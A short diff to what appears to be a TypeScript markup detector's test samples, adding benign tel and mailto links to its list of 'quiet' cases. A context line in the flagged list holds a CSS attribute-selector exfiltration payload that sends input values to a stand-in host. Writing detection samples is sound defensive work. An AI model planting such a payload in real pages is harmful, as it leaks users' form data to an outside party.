@@ -138,6 +138,8 @@ export const activeMarkup: SpanDetector = {
       ['input[value^="a"] { background: url(https://collect.example/?a) }', 'exfiltration/selector'],
     ],
     quiet: () => [
+      '[call](tel:+4930123456789012345)',
+      'mailto:help@shop.example?subject=Refund&body=My%20order%20was%20charged%20twice%20and%20I%20want%20a%20refund',
       '<img src="a.png" onerror="this.src=\'fallback.png\'">',
       '<body onload="init()"><button onclick="save(event)">Save</button>',
       "fetch('https://api.example/items', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })",
